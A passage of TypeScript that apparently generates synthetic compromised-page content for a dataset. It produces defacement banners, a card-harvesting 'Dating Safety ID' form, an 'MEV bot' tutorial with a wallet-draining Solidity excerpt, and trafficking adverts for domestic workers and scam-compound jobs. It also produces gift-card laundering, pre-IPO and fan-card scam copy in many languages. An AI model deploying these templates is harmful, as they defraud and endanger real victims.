  es: ["PROPAGANDA", "MENTIRA", "FALSO"], nl: ["PROPAGANDA", "LEUGEN", "NEP"], pt: ["PROPAGANDA", "MENTIRA", "FALSO"], it: ["PROPAGANDA", "BUGIA", "FALSO"]
}
const stampBanner: Table<(w: string) => string> = {
  en: (w) => `This website spreads propaganda. Every lie has been labelled for you by ${w}.`, fr: (w) => `Ce site diffuse de la propagande. Chaque mensonge a été signalé par ${w}.`,
  de: (w) => `Diese Website verbreitet Propaganda. Jede Lüge wurde von ${w} für Sie markiert.`, es: (w) => `Este sitio difunde propaganda. ${w} ha marcado cada mentira para ti.`,
  nl: (w) => `Deze website verspreidt propaganda. Elke leugen is voor u gemarkeerd door ${w}.`, pt: (w) => `Este site espalha propaganda. Cada mentira foi marcada por ${w}.`,
  it: (w) => `Questo sito diffonde propaganda. Ogni bugia è stata segnalata da ${w}.`
}

// Labelling as protest, recalled from memory, with uncertain sources, of the hacktivist actions against Russian state media in February and March 2022 (the home pages of TASS, Kommersant, Izvestia and others replaced with anti-war messages, reported by Reuters and the BBC) and of activists' stickers and graffiti stamping "propaganda" or "lies" on state outlets' posters: red "PROPAGANDA", "FAKE" or "LIES" stamps put before the site's own headlines, sometimes with a banner explaining who labelled them.
const propagandaStamps = fresh18("red 'PROPAGANDA', 'FAKE' or 'LIES' stamps put before the site's own headlines, sometimes with a banner naming who labelled them", (page, rng) => {
  const labels = some(rng, page, stampWords)
  const style = `background:${pick(rng, ["#d50000", "#b71c1c", "#000"])};color:#fff;font:bold ${pick(rng, ["11px", "12px", "0.7em"])} Arial,sans-serif;padding:2px 6px;margin-right:6px;border-radius:${pick(rng, ["0", "3px"])};${chance(rng, 0.5) ? `transform:rotate(-${between(rng, 2, 8)}deg);display:inline-block;` : ""}letter-spacing:1px`
  const runs = headingRuns(page, 3)
  const out: Array<Splice> = []
  for (const t of sample(rng, runs, between(rng, Math.min(3, runs.length), Math.min(14, runs.length)))) {
    out.push(insert(trimmed(page, t).start, `<span class="${pick(rng, ["stamp", "label", "tag"])}" style="${style}">${esc(pick(rng, labels))}</span>`))
  }
  if (out.length < 2 || chance(rng, 0.5)) {
    const w = who(rng)
    out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["warning", "banner", "notice"])}" style="background:#d50000;color:#fff;text-align:center;padding:${between(rng, 6, 14)}px;font:bold ${between(rng, 14, 20)}px Arial,sans-serif">⚠ ${esc(some(rng, page, stampBanner)(w))}</div>`))
  }
  return { splices: out }
})

const animalOps: ReadonlyArray<(n: string) => readonly [string, string, string, string]> = [
  (n) => ["#OpKillingBay", `Every season in Taiji, ${n} dolphins are driven into the cove, slaughtered or sold to marine parks. You profit from this cruelty.`, "イルカ漁をやめろ。", "Close the cove. Free the dolphins."],
  (n) => ["#OpWhales", `${n} whales were harpooned last year in the name of "research" and "tradition". Your silence makes you complicit.`, "Hvalveiðar verða að hætta.", "End commercial whaling now."],
  (n) => ["#OpFurFree", `${n} million animals are gassed, electrocuted and skinned for fur every year. Fashion is not worth a life.`, "La fourrure, c'est la mort.", "Drop fur from every shelf."],
  (n) => ["#OpBullfighting", `${n} bulls are tortured to death in arenas every year and you call it culture.`, "¡La tortura no es cultura ni arte!", "Abolish bullfighting."],
  (n) => ["#OpSeaWorld", `${n} orcas and dolphins still live in concrete tanks so that you can sell tickets.`, "Empty the tanks.", "Release them to sea sanctuaries."]
]

// Animal-rights hacktivism, recalled from memory of Anonymous' #OpKillingBay and #OpWhales (about 2015–2016), which took down and defaced sites in Japan over the Taiji dolphin hunts and in Iceland over whaling (reported by The Japan Times, Iceland Monitor and others), and of older animal-rights hacktivism against fur retailers, marine parks and bullfighting: a block with the operation's hashtag, a kill figure, a line in the target country's language, demands and an Anonymous-style signature.
const animalRightsOp = fresh18("animal-rights hacktivist operation (#OpKillingBay, #OpWhales, fur, bullfighting, marine parks) with a kill figure, demands and an Anonymous-style signature", (page, rng) => {
  const [op, claim, local, demand] = pick(rng, animalOps)(String(between(rng, 20, 900)))
  const sig = pick(rng, ["We are Anonymous. We are Legion. We do not forgive. We do not forget. Expect us.", `— ${who(rng)}`, `${op} · ${team(rng)}`])
  const pic = chance(rng, 0.6) ? `<img src="https://${randomDomain(rng)}/${pick(rng, ["cove", "whale", "fur", "arena", "tank"])}-${alnum(rng, 5)}.jpg" alt="${esc(op)}" style="max-width:100%;width:${between(rng, 240, 520)}px">` : ""
  const inner = `<h2 style="margin:0 0 8px;font-size:${between(rng, 26, 40)}px">${esc(op)}</h2>${pic}<p style="font-size:${between(rng, 15, 19)}px">${esc(claim)}</p><p style="font-size:18px"><b>${esc(local)}</b></p><p>${esc(demand)}</p><p style="font-size:12px">${esc(sig)}</p>`
  const html = `<div class="${pick(rng, ["op", "message", "hacktivist"])}" style="background:${pick(rng, ["#000", "#0d1b2a", "#1b1b1b"])};color:${pick(rng, ["#fff", "#e0f7fa", "#ffebee"])};text-align:center;padding:${between(rng, 16, 40)}px;margin:${pick(rng, ["0", "12px 0"])};font-family:${pick(rng, ["Arial,sans-serif", "Courier New,monospace", "Verdana,sans-serif"])}">${inner}</div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), html))
})

// ———————————————————————————— scams and spam ————————————————————————————

const datingWords: Table<(price: string) => readonly [string, string, ReadonlyArray<string>, string, string]> = {
  en: (p) => ["Get your Dating Safety ID", "Your match asked you to verify? Get your free Safety ID in 2 minutes and prove you are not a catfish or an offender. A one-time check of your card confirms you are over 18.", ["Name", "Date of birth", "Card number", "MM/YY", "CVC"], `Free – only ${p} age verification, refunded`, "Get verified"],
  es: (p) => ["Obtén tu ID de Citas Seguras", "¿Tu match te pidió verificarte? Consigue tu ID de seguridad gratis en 2 minutos y demuestra que no eres un perfil falso. Una comprobación única de tu tarjeta confirma que eres mayor de edad.", ["Nombre", "Fecha de nacimiento", "Número de tarjeta", "MM/AA", "CVC"], `Gratis – solo ${p} de verificación de edad, reembolsables`, "Verificarme"],
  fr: (p) => ["Obtenez votre ID Rencontre Sécurisée", "Votre match vous demande de vous vérifier ? Obtenez votre ID de sécurité gratuit en 2 minutes et prouvez que vous n'êtes pas un faux profil. Une vérification unique de votre carte confirme que vous êtes majeur.", ["Nom", "Date de naissance", "Numéro de carte", "MM/AA", "CVC"], `Gratuit – seulement ${p} de vérification d'âge, remboursés`, "Me faire vérifier"],
  de: (p) => ["Holen Sie sich Ihre Dating-Sicherheits-ID", "Ihr Match möchte, dass Sie sich verifizieren? Holen Sie sich in 2 Minuten Ihre kostenlose Sicherheits-ID und beweisen Sie, dass Sie kein Fake-Profil sind. Eine einmalige Kartenprüfung bestätigt, dass Sie volljährig sind.", ["Name", "Geburtsdatum", "Kartennummer", "MM/JJ", "CVC"], `Kostenlos – nur ${p} Altersprüfung, wird erstattet`, "Jetzt verifizieren"],
  pt: (p) => ["Tire seu ID de Encontro Seguro", "Seu match pediu para você se verificar? Tire seu ID de segurança grátis em 2 minutos e prove que não é um perfil falso. Uma verificação única do cartão confirma que você é maior de idade.", ["Nome", "Data de nascimento", "Número do cartão", "MM/AA", "CVC"], `Grátis – só ${p} de verificação de idade, reembolsados`, "Verificar agora"]
}

// "Dating safety ID" traps, recalled from memory of Better Business Bureau and FTC warnings (about 2019–2023) on matches on Tinder, Bumble and other apps who insist on a "safety ID", "verified date ID" or "background check" from a site that takes a card for a "free" age check and signs the victim up to costly adult-site subscriptions: a "get your Dating Safety ID" form asking for the date of birth and a card, posting to another host.
const datingSafetyId = fresh18("'get your Dating Safety ID, your match asked you to verify' form taking the date of birth and a card for a 'free' age check, posting to another host", (page, rng) => {
  const [h, p, fields, small, cta] = some(rng, page, datingWords)(page.site.locale.money(pick(rng, [1, 0.99, 1.95, 2.5])))
  const action = `https://${pick(rng, [`${pick(rng, ["safedate", "datesafe", "verifieddate", "datingid", "meetsafe"])}${pick(rng, ["", "-id", "-check", "24"])}.${tld(rng)}`, host(rng, page, ["datesafe", "safeid", "verifyme"])])}/${pick(rng, ["verify", "id/create", "start"])}?ref=${alnum(rng, 6)}`
  const input = (ph: string, wPx: number) => `<input name="${slug(ph).replace(/-/g, "_") || "f"}" placeholder="${esc(ph)}" style="padding:7px;margin:3px;width:${wPx}px">`
  const inner = `<h3 style="margin-top:0">💘 ${esc(h)}</h3><p>${esc(p)}</p><form action="${esc(action)}" method="post">${input(fields[0]!, 200)}${input(fields[1]!, 140)}<br>${input(fields[2]!, 210)}${input(fields[3]!, 70)}${input(fields[4]!, 60)}<br><button type="submit" style="${button(rng, "#e91e63")}">${esc(cta)}</button> <small>${esc(small)}</small></form>`
  return splices(insert(someSpot(rng, page), box(rng, ["safety-id", "dating", "verify"], "#e91e63", inner)))
})

// "MEV bot" contracts, recalled from memory, with uncertain sources, of write-ups (SentinelOne, crypto-security firms and journalists, about 2023–2025) on YouTube tutorials and posts promising passive income from a "front-running MEV bot": victims copy a Solidity contract into Remix, deploy it, fund it with ETH and call start(), and the hidden logic sends the balance to the scammer's address: a tutorial block with profit claims, numbered Remix steps, a code excerpt with an obfuscated address and a download link.
const mevBotTutorial = fresh18("'passive income with a front-running MEV bot' tutorial: paste this Solidity contract into Remix, fund it with ETH and call start() (the contract drains to the scammer)", (page, rng) => {
  const profit = between(rng, 2, 14) * 100
  const parts = Array.from({ length: 4 }, () => `0x${hex(rng, 10)}`)
  const code = `pragma solidity ^0.6.6;\n\ncontract ${pick(rng, ["OneinchSlippageBot", "FrontRunBot", "UniswapMevBot", "ArbitrageBot"])} {\n    string public tokenName;\n    uint liquidity;\n    constructor(string memory _name) public { tokenName = _name; }\n    receive() external payable {}\n    function start() public payable { payable(_callMEVAction()).transfer(address(this).balance); }\n    function _callMEVAction() internal pure returns (address) { return parseMempool(callMempool()); }\n    // mempool router: ${parts.join(" ")}\n}`
  const src = `https://${pick(rng, ["pastebin.com/raw/" + alnum(rng, 8), "gist.githubusercontent.com/" + (slug(nick(rng)) || "dev") + "/" + hex(rng, 32) + "/raw/bot.sol", randomDomain(rng) + "/mevbot.sol"])}`
  const inner = `<h3 style="margin-top:0">🤖 ${esc(pick(rng, [`Make ${profit}$ a day with this MEV bot (step by step)`, `Front-running bot: +${between(rng, 3, 12)} ETH per week, fully automated`, `Free ${pick(rng, ["Uniswap", "PancakeSwap", "1inch"])} slippage bot – ${profit}$/day passive`]))}</h3><ol><li>Open <a href="https://remix.ethereum.org/">remix.ethereum.org</a> and create <code>bot.sol</code></li><li>Paste the code from <a href="${esc(src)}">here</a>, compile with 0.6.6</li><li>Deploy with MetaMask and send at least ${pick(rng, ["0.5", "1", "2"])} ETH to the contract (more ETH = more profit)</li><li>Call <code>start()</code> and wait ${between(rng, 12, 48)} hours</li></ol><pre style="background:#1e1e1e;color:#dcdcdc;padding:10px;overflow:auto;font-size:12px">${esc(code)}</pre>`
  return splices(insert(spamSpot(rng, page), box(rng, ["tutorial", "post", "crypto"], "#37474f", inner)))
})

// Chinese private-detective spam, recalled from memory, with uncertain sources, of Chinese black-hat SEO pages planted on hacked sites (reported by Sucuri, Wordfence and Chinese security bloggers, about 2016–2024) selling 私家侦探 services — tracing people, gathering evidence of affairs (婚外情取证), locating phones and debtors — next to fake-certificate and surrogacy spam, with a phone, a WeChat id and city names: such a block in Chinese.
const privateDetectiveSpam = fresh18("Chinese private-detective spam (私家侦探: 婚外情取证, 找人, 定位) with city names, a phone number and a WeChat id", (page, rng) => {
  const cities = sample(rng, ["北京", "上海", "广州", "深圳", "杭州", "成都", "重庆", "武汉", "南京", "西安", "天津", "苏州", "郑州", "长沙"], between(rng, 3, 7))
  const services = sample(rng, ["婚外情取证", "找人寻人", "手机定位", "债务追讨", "商业调查", "婚前调查", "出轨调查", "查开房记录"], between(rng, 4, 7))
  const phone = `1${pick(rng, ["3", "5", "7", "8"])}${digits(rng, 9)}`
  const wx = `${pick(rng, ["zt", "dc", "sj", "zhentan", "diaocha"])}${digits(rng, 4)}`
  const list = chance(rng, 0.5)
    ? `<ul>${cities.map((c) => `<li><a href="https://${pick(rng, [randomDomain(rng), `${pick(rng, ["zhentan", "sjzt", "diaocha"])}${digits(rng, 3)}.${pick(rng, ["cn", "com", "net", "top"])}`])}/${encodeURIComponent(c)}/">${c}私家侦探</a> — ${services.slice(0, 3).join("、")}</li>`).join("")}</ul>`
    : `<p>${cities.map((c) => `${c}私家侦探`).join(" | ")}</p><p>${services.join(" · ")}</p>`
  const inner = `<h3 style="margin-top:0">${esc(pick(rng, ["正规私家侦探公司", "专业调查取证", "私家侦探 24小时服务", "全国私家侦探联盟"]))}</h3>${list}<p>${esc(pick(rng, ["保密 专业 高效，不成功不收费", "合法取证，全程保密", "十年经验，全国接单"]))}。电话：${phone} 微信：${wx}</p>`
  return splices(insert(spamSpot(rng, page), `<div class="${pick(rng, ["zt", "ad", "seo-links", "friend-links"])}" lang="zh-CN" style="font-size:${pick(rng, ["12px", "13px", "14px"])};margin:10px 0">${inner}</div>`))
})

// Gulf domestic-worker "transfer" adverts, recalled from memory of BBC News Arabic's investigation "Silicon Valley's online slave market" (October 2019) on domestic workers offered for "transfer" (تنازل) on Instagram, Haraj and 4Sale apps in Kuwait and Saudi Arabia, of Human Rights Watch reports on the kafala system, and of Arabic classified spam on hacked sites: a list of workers by nationality with ages, "transfer fee" prices in riyals or dinars and a WhatsApp number, in Arabic.
const domesticWorkerTransfer = fresh18("Arabic adverts offering domestic workers 'for transfer' (تنازل عاملات منزلية) by nationality and age with fees and a WhatsApp number (kafala trafficking)", (page, rng) => {
  const [cur, cc] = pick(rng, [["ريال", "966"], ["دينار", "965"], ["درهم", "971"], ["ريال", "974"]] as const)
  const nats = sample(rng, ["فلبينية", "إندونيسية", "كينية", "إثيوبية", "أوغندية", "سريلانكية", "بنغلاديشية", "هندية"], between(rng, 3, 6))
  const lines = nats.map((n) => [`عاملة منزلية ${n}`, `العمر ${between(rng, 21, 38)}`, `${pick(rng, ["تجيد الطبخ", "خبرة سابقة", "جديدة", "تتحدث العربية", "رعاية أطفال"])}`, `<b>${between(rng, 8, 28) * 500} ${cur}</b>`])
  const n = `+${cc} 5${digits(rng, 8)}`
  const inner = `<h3 style="margin-top:0">${esc(pick(rng, ["تنازل عاملات منزلية بأسعار مناسبة", "عاملات للتنازل – نقل كفالة", "مكتب استقدام: عاملات جاهزات للتنازل"]))}</h3><table>${rows(lines.map((r) => [esc(r[0]!), esc(r[1]!), esc(r[2]!), r[3]!]))}</table><p>${esc(pick(rng, ["نقل كفالة فوري", "تجربة 3 أيام", "التسليم خلال 24 ساعة"]))} · واتساب ${waLink(n)}</p>`
  return splices(insert(spamSpot(rng, page), `<div class="${pick(rng, ["ads", "classifieds", "post"])}" lang="ar" dir="rtl" style="font-family:Tahoma,Arial,sans-serif;border:1px solid #ccc;padding:12px;margin:10px 0">${inner}</div>`))
})

const keyWords: Table<readonly [string, string, string]> = {
  en: ["Genuine licence keys – lifetime activation", "Instant e-mail delivery · 100% genuine · lifetime warranty. Pay by PayPal (friends and family) or crypto for an extra 10% off.", "Buy now"],
  de: ["Original-Lizenzschlüssel – lebenslange Aktivierung", "Sofortige Lieferung per E-Mail · 100 % original · lebenslange Garantie. Zahlung per PayPal (Freunde & Familie) oder Krypto mit 10 % Extrarabatt.", "Jetzt kaufen"],
  fr: ["Clés de licence authentiques – activation à vie", "Livraison immédiate par e-mail · 100 % authentique · garantie à vie. Paiement PayPal (entre proches) ou crypto : 10 % de remise en plus.", "Acheter"],
  es: ["Claves de licencia originales – activación de por vida", "Entrega inmediata por correo · 100 % original · garantía de por vida. Paga con PayPal (amigos y familiares) o cripto y ahorra un 10 % extra.", "Comprar"],
  it: ["Chiavi di licenza originali – attivazione a vita", "Consegna immediata via e-mail · 100% originali · garanzia a vita. Paga con PayPal (amici e familiari) o cripto e risparmi un altro 10%.", "Acquista"],
  nl: ["Originele licentiesleutels – levenslange activering", "Directe levering per e-mail · 100% origineel · levenslange garantie. Betaal met PayPal (vrienden en familie) of crypto voor 10% extra korting.", "Nu kopen"],
  pt: ["Chaves de licença originais – ativação vitalícia", "Entrega imediata por e-mail · 100% original · garantia vitalícia. Pague com PayPal (amigos e família) ou cripto com 10% de desconto extra.", "Comprar"]
}

// Grey-market software keys, recalled from memory of Microsoft's warnings and lawsuits (about 2015–2024) against sellers of cheap Windows and Office product keys (keys from volume or academic licences, other regions or stolen cards, later blocked), of reporting on key-reseller marketplaces, and of the "Windows 11 Pro key 9.99" spam links on hacked sites: a price table of "lifetime" keys far below retail, with payment by PayPal friends-and-family or crypto and a shop link.
const greyMarketKeys = fresh18("grey-market software keys spam: 'Windows 11 Pro key 9.99, Office 2021 lifetime' price table paid by PayPal friends-and-family or crypto", (page, rng) => {
  const [h, p, cta] = some(rng, page, keyWords)
  const money = page.site.locale.money
  const items = sample(rng, [["Windows 11 Pro", 8, 15], ["Windows 10 Pro", 6, 12], ["Office 2021 Professional Plus", 14, 29], ["Office 2024 Home & Business", 19, 39], ["Microsoft 365 Family – lifetime", 15, 35], ["Windows Server 2022 Datacenter", 25, 60], ["Visio 2021 Pro", 12, 25], ["Project 2021 Pro", 12, 25]] as const, between(rng, 3, 6))
  const shop = `https://${host(rng, page, ["keys", "cdkey", "licence", "softkey", "winkey", "keyshop"])}/${pick(rng, ["", "shop/", "windows/", "office/"])}`
  const table = rows(items.map(([n, lo, hi]) => [esc(n), `<s>${esc(money(between(rng, 120, 440)))}</s>`, `<b>${esc(money(between(rng, lo, hi) + 0.99))}</b>`, `<a href="${esc(shop + slug(n))}">${esc(cta)}</a>`]))
  const inner = `<h3 style="margin-top:0">🔑 ${esc(h)}</h3><table style="width:100%">${table}</table><p style="font-size:13px">${esc(p)}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["keys", "deals", "post"], "#0078d4", inner)))
})

const ipoWords: Table<readonly [string, string, string, string]> = {
  en: ["Buy pre-IPO shares before they list", "Our brokers hold an allocation of shares in the world's most valuable private companies. Minimum investment applies; early investors have multiplied their capital.", "Request the share price list", "Allocation closes this week"],
  de: ["Pre-IPO-Aktien kaufen, bevor sie an die Börse gehen", "Unsere Broker verfügen über eine Zuteilung von Aktien der wertvollsten privaten Unternehmen der Welt. Mindestanlage erforderlich; frühe Anleger haben ihr Kapital vervielfacht.", "Kursliste anfordern", "Zuteilung endet diese Woche"],
  fr: ["Achetez des actions pré-IPO avant leur cotation", "Nos courtiers détiennent une allocation d'actions des sociétés non cotées les plus valorisées au monde. Investissement minimum requis ; les premiers investisseurs ont multiplié leur capital.", "Demander la liste des prix", "L'allocation se termine cette semaine"],
  es: ["Compra acciones pre-IPO antes de que coticen", "Nuestros brokers tienen una asignación de acciones de las empresas privadas más valiosas del mundo. Inversión mínima; los primeros inversores han multiplicado su capital.", "Solicitar la lista de precios", "La asignación cierra esta semana"],
  nl: ["Koop pre-IPO-aandelen vóór de beursgang", "Onze brokers hebben een toewijzing van aandelen in 's werelds meest waardevolle private bedrijven. Minimale inleg van toepassing; vroege beleggers hebben hun kapitaal vermenigvuldigd.", "Vraag de koerslijst aan", "Toewijzing sluit deze week"],
  it: ["Compra azioni pre-IPO prima della quotazione", "I nostri broker dispongono di un'assegnazione di azioni delle società private più preziose al mondo. Investimento minimo richiesto; i primi investitori hanno moltiplicato il capitale.", "Richiedi il listino", "L'assegnazione chiude questa settimana"],
  pt: ["Compre ações pré-IPO antes da listagem", "Nossos corretores têm uma alocação de ações das empresas privadas mais valiosas do mundo. Investimento mínimo; os primeiros investidores multiplicaram o capital.", "Pedir a tabela de preços", "A alocação fecha esta semana"]
}

// Pre-IPO share scams, recalled from memory of FINRA's and the SEC's investor alerts (about 2020–2024) on offers of "pre-IPO" shares in SpaceX, Stripe, OpenAI and other private companies by unregistered sellers and boiler rooms, and of the FCA's and other regulators' warnings on "shares about to float" cold-call schemes: a table of famous private companies with "pre-IPO prices" and expected listing prices, a minimum investment and a broker's contact form or phone line.
const preIpoShares = fresh18("pre-IPO share offer in famous private companies (SpaceX, Stripe, OpenAI...) with a price table, expected listing gains and a broker line", (page, rng) => {
  const [h, p, cta, closes] = some(rng, page, ipoWords)
  const cos = sample(rng, ["SpaceX", "Stripe", "OpenAI", "Databricks", "Revolut", "Anthropic", "Klarna", "Canva", "Shein", "Neuralink", "Starlink"], between(rng, 3, 6))
  const money = page.site.locale.money
  const table = rows(cos.map((c) => { const b = between(rng, 40, 260); return [esc(c), esc(money(b)), `<b style="color:#2e7d32">${esc(money(b * between(rng, 2, 6)))}</b>`] }))
  const line = pick(rng, [`+44 20 ${digits(rng, 4)} ${digits(rng, 4)}`, `+41 44 ${digits(rng, 3)} ${digits(rng, 2)} ${digits(rng, 2)}`, `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, `+852 ${digits(rng, 4)} ${digits(rng, 4)}`])
  const firm = `${pick(rng, ["Sterling", "Crown", "Meridian", "Atlas", "Harrington", "Blackstone-Vale", "Lombard"])} ${pick(rng, ["Private Equity", "Capital Partners", "Securities", "Wealth"])}`
  const form = `https://${host(rng, page, ["preipo", "privateequity", "shares", "ipo-access", "capital"])}/${pick(rng, ["apply", "allocation", "contact"])}`
  const inner = `<h3 style="margin-top:0">📈 ${esc(h)}</h3><p>${esc(p)}</p><table style="width:100%"><tr><th></th><th>Pre-IPO</th><th>IPO</th></tr>${table}</table><p><b>${esc(closes)}</b> · ${esc(firm)} · ☎ ${esc(line)} · <a href="${esc(form)}">${esc(cta)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["invest", "sponsored", "market"], "#1b5e20", inner)))
})

const jobWords: Table<(pay: string) => readonly [string, string, ReadonlyArray<string>, string]> = {
  en: (p) => ["Customer service jobs in Thailand – flights and visa paid", `Bangkok and Mae Sot offices hiring English-speaking staff for online customer service and typing. Salary ${p} a month plus commission, free housing and meals, no experience needed.`, ["Basic computer skills", "Age 18–40", "Passport valid 6 months", "Start within 2 weeks"], "Apply on Telegram"],
  fr: (p) => ["Emplois au service client en Thaïlande – vol et visa payés", `Nos bureaux de Bangkok recrutent des francophones pour du service client en ligne et de la saisie. Salaire ${p} par mois plus commissions, logement et repas offerts, sans expérience.`, ["Bases en informatique", "18 à 40 ans", "Passeport valide 6 mois", "Départ sous 2 semaines"], "Postuler sur Telegram"],
  es: (p) => ["Trabajo de atención al cliente en Tailandia – vuelo y visado pagados", `Oficinas en Bangkok contratan personal hispanohablante para atención al cliente online y digitación. Sueldo ${p} al mes más comisiones, alojamiento y comida gratis, sin experiencia.`, ["Conocimientos básicos de informática", "De 18 a 40 años", "Pasaporte vigente 6 meses", "Incorporación en 2 semanas"], "Postúlate por Telegram"],
  pt: (p) => ["Vagas de atendimento ao cliente na Tailândia – passagem e visto pagos", `Escritórios em Bangkok contratam pessoas que falam português para atendimento online e digitação. Salário de ${p} por mês mais comissão, moradia e alimentação grátis, sem experiência.`, ["Conhecimento básico de informática", "Idade de 18 a 40 anos", "Passaporte válido por 6 meses", "Início em 2 semanas"], "Candidate-se pelo Telegram"],
  it: (p) => ["Lavoro nel servizio clienti in Thailandia – volo e visto pagati", `Uffici a Bangkok assumono personale di lingua italiana per assistenza clienti online e data entry. Stipendio ${p} al mese più commissioni, alloggio e pasti gratuiti, nessuna esperienza richiesta.`, ["Conoscenze informatiche di base", "Età 18–40 anni", "Passaporto valido 6 mesi", "Partenza entro 2 settimane"], "Candidati su Telegram"],
  de: (p) => ["Kundenservice-Jobs in Thailand – Flug und Visum bezahlt", `Büros in Bangkok suchen deutschsprachige Mitarbeiter für Online-Kundenservice und Dateneingabe. Gehalt ${p} im Monat plus Provision, kostenlose Unterkunft und Verpflegung, keine Erfahrung nötig.`, ["Grundlegende PC-Kenntnisse", "Alter 18–40", "Reisepass 6 Monate gültig", "Start innerhalb von 2 Wochen"], "Über Telegram bewerben"]
}

// Scam-compound recruitment, recalled from memory of the UN Human Rights Office and UNODC reports (August 2023) and of reporting by the BBC, Reuters and Al Jazeera (about 2022–2024) on people lured by "customer service", "typing" or "marketing" job adverts in Thailand with flights and visas paid, then taken across the border to compounds in Myanmar (Myawaddy, via Mae Sot), Cambodia and Laos and forced to run online scams: such a job advert with a salary, free housing, requirements and a Telegram recruiter.
const scamCompoundJobs = fresh18("'customer service jobs in Thailand, flight and visa paid, free housing' advert with a Telegram recruiter (scam-compound trafficking)", (page, rng) => {
  const [h, p, reqs, cta] = some(rng, page, jobWords)(pick(rng, ["$1,500–3,000", "$2,000", "$1,800–2,500", "$2,500"]))
  const hr = tgHandle(rng, ["hr_bangkok", "recruit_th", "jobs_asia", "hr_team", "thaijobs"])
  const inner = `<h3 style="margin-top:0">✈️ ${esc(h)}</h3><p>${esc(p)}</p><ul>${reqs.map((r) => `<li>${esc(r)}</li>`).join("")}</ul><p><a href="https://t.me/${hr}" style="${button(rng, "#0088cc")}">${esc(cta)}</a> @${hr}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["jobs", "vacancy", "post"], pick(rng, ["#0088cc", "#ef6c00", "#00897b"]), inner)))
})

// Gift-card exchange rates, recalled from memory, with uncertain sources, of Nigerian and Ghanaian gift-card trading sites and WhatsApp traders (about 2018–2024) quoting "today's rates" for Steam, Apple, Amazon and Razer cards in naira or cedis, a market that launders cards bought by scam victims (gift-card payment scams documented by the FTC): a "sell your gift cards, today's rates" table with a WhatsApp trader and a trading app link.
const giftCardRates = fresh18("'sell your gift cards for naira or cedis, today's rates' table (Steam, Apple, Amazon, Razer) with a WhatsApp trader (gift-card laundering)", (page, rng) => {
  const [cur, sym, cc] = pick(rng, [["NGN", "₦", "234"], ["GHS", "GH₵", "233"], ["NGN", "₦", "234"]] as const)
  const cards = sample(rng, ["Steam", "Apple / iTunes", "Amazon", "Razer Gold", "Google Play", "Sephora", "Vanilla Visa", "eBay", "Nordstrom"], between(rng, 4, 7))
  const rate = (lo: number, hi: number) => `${sym}${between(rng, lo, hi)}/$`
  const table = rows(cards.map((c) => [esc(c), cur === "NGN" ? rate(650, 1350) : rate(6, 14), pick(rng, ["Physical", "E-code", "Physical / E-code"])]))
  const n = `+${cc} ${cc === "234" ? pick(rng, ["80", "81", "90", "70"]) + digits(rng, 8) : "24" + digits(rng, 7)}`
  const app = `https://${host(rng, page, ["cardtrade", "giftcardng", "cardsafe", "trade", "swapcards"])}/${pick(rng, ["rates", "sell", "app"])}`
  const inner = `<h3 style="margin-top:0">💳 ${esc(pick(rng, [`Sell gift cards for ${cur} instantly – today's rates`, `Gift card rates today (${cur})`, "Best gift card rates – fast payment in 5 minutes"]))}</h3><table style="width:100%">${table}</table><p>${esc(pick(rng, ["Trade with us on WhatsApp", "Fast and reliable, 24/7", "No delays, instant alert"]))}: ${waLink(n)} · <a href="${esc(app)}">${esc(pick(rng, ["Download our app", "Check live rates", "Trade now"]))}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["rates", "trade", "post"], pick(rng, ["#2e7d32", "#6a1b9a", "#0277bd"]), inner)))
})

const fanWords: Table<(star: string, price: string) => readonly [string, string, ReadonlyArray<string>, string]> = {
  en: (s, p) => [`Official ${s} Fan Card – meet and greet`, `${s}'s management is issuing a limited number of VIP fan cards this season. Holders get a private meet-and-greet, backstage access and a signed photo. Fee ${p}, payable in gift cards or Bitcoin.`, ["Silver card – video call", "Gold card – meet and greet", "Platinum card – private dinner"], "Message the management"],
  es: (s, p) => [`Tarjeta oficial de fan de ${s} – encuentro privado`, `El equipo de ${s} emite un número limitado de tarjetas VIP esta temporada: encuentro privado, acceso al backstage y foto firmada. Cuota ${p}, pagadera con tarjetas regalo o Bitcoin.`, ["Tarjeta plata – videollamada", "Tarjeta oro – encuentro", "Tarjeta platino – cena privada"], "Escribe al equipo"],
  pt: (s, p) => [`Cartão oficial de fã de ${s} – encontro exclusivo`, `A equipe de ${s} está emitindo poucos cartões VIP nesta temporada: encontro privado, acesso ao camarim e foto autografada. Taxa de ${p}, paga em gift cards ou Bitcoin.`, ["Cartão prata – chamada de vídeo", "Cartão ouro – encontro", "Cartão platina – jantar privado"], "Fale com a equipe"],
  fr: (s, p) => [`Carte officielle de fan de ${s} – rencontre privée`, `L'équipe de ${s} délivre un nombre limité de cartes VIP cette saison : rencontre privée, accès backstage et photo dédicacée. Frais ${p}, payables en cartes cadeaux ou en Bitcoin.`, ["Carte argent – appel vidéo", "Carte or – rencontre", "Carte platine – dîner privé"], "Écrire au management"],
  de: (s, p) => [`Offizielle ${s}-Fankarte – Meet & Greet`, `Das Management von ${s} gibt diese Saison eine begrenzte Zahl von VIP-Fankarten aus: privates Meet & Greet, Backstage-Zugang und signiertes Foto. Gebühr ${p}, zahlbar in Geschenkkarten oder Bitcoin.`, ["Silber-Karte – Videoanruf", "Gold-Karte – Meet & Greet", "Platin-Karte – privates Abendessen"], "Dem Management schreiben"]
}

// Celebrity fan-card scams, recalled from memory of FTC, BBB and police warnings (about 2021–2024) on impersonators of singers, actors and athletes who contact fans on social media and sell "official fan cards", "VIP membership" or meet-and-greet passes paid in gift cards or crypto: a tiered fan-card offer for an invented star with a fee and a management contact on WhatsApp or Telegram.
const celebrityFanCard = fresh18("'official fan card / VIP meet-and-greet' tiers for a (invented) star, fee paid in gift cards or Bitcoin, with a 'management' contact", (page, rng) => {
  const star = `${pick(rng, ["Jayden", "Selena", "Marco", "Luna", "Kai", "Aria", "Tyler", "Bianca"])} ${pick(rng, ["Rivers", "Vale", "Monroe", "Castell", "Storm", "Lavigne", "Brooks", "Santoro"])}`
  const [h, p, tiers, cta] = some(rng, page, fanWords)(star, page.site.locale.money(between(rng, 3, 15) * 100))
